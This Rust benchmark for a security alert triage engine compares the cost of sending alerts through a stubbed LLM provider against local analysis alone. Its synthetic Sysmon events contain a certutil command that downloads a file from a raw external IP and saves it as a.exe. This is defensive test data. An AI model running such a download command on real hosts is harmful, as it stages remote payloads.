//! Warden's own cost per alert around a provider call: protection for the
//! provider, the prompt envelope, the egress check, the (loopback) call to a
//! provider that answers at once, parsing, grounding, the local cross-check,
//! injection screening and routing — against the same alerts through the
//! local analyzer alone, in the same run. The difference is the overhead of
//! going to a model, with the model's own latency taken out.
//! Run: `cargo bench -p warden-engine --bench llm`.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;

use divan::Bencher;
use divan::counter::ItemsCount;
use warden_engine::{Config, Engine};

fn main() {
    divan::main();
}

const N: usize = 200;

/// An OpenAI-compatible endpoint that answers every request at once.
fn instant_provider() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/v1", listener.local_addr().unwrap());
    let answer = serde_json::json!({
        "verdict": "malicious", "severity": "high", "confidence": 0.9, "techniques": ["T1105"],
        "summary": "certutil downloads a file.",
        "evidence": [{"path": "CommandLine", "value": "certutil.exe -urlcache -split -f", "note": "download"}],
        "recommended_actions": ["isolate_host"]
    })
    .to_string();
    let payload =
        serde_json::json!({"choices": [{"message": {"content": answer}}], "usage": {"total_tokens": 300}}).to_string();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut s) = stream else { continue };
            let payload = payload.clone();
            std::thread::spawn(move || {
                let mut r = BufReader::new(s.try_clone().unwrap());
                let (mut len, mut line) = (0usize, String::new());
                while r.read_line(&mut line).unwrap_or(0) > 0 && line != "\r\n" {
                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                        len = v.trim().parse().unwrap_or(0);
                    }
                    line.clear();
                }
                let mut body = vec![0; len];
                let _ = r.read_exact(&mut body);
                let _ = write!(
                    s,
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{payload}",
                    payload.len()
                );
            });
        }
    });
    url
}

fn input() -> Vec<u8> {
    (0..N)
        .map(|i| format!(r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"ws-{i}.corp.example.com","User":"CORP\\u{i}","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://91.215.85.12/{i}.txt a.exe"}}"#) + "\n")
        .collect::<String>()
        .into_bytes()
}

fn run(b: Bencher, config: String) {
    let bytes = input();
    b.counter(ItemsCount::new(N))
        .with_inputs(|| Engine::in_memory(Config::parse(&config, "bench", Vec::new()).unwrap()).unwrap())
        .bench_local_values(|engine| {
            let s = engine.triage(&bytes, "bench", None, &mut |_| {}).unwrap();
            assert_eq!(s.stored as usize, N);
            engine
        });
}

#[divan::bench(sample_count = 10)]
fn with_an_instant_provider(b: Bencher) {
    let url = instant_provider();
    run(
        b,
        format!(
            "[govern]\nanalyzer = \"fast\"\n[providers.fast]\nresidency = \"external\"\nunclassified = \"raw\"\nbase_url = \"{url}\"\nmodel = \"m\"\n"
        ),
    );
}

#[divan::bench(sample_count = 10)]
fn baseline_local_analyzer_only(b: Bencher) {
    run(b, String::new());
}
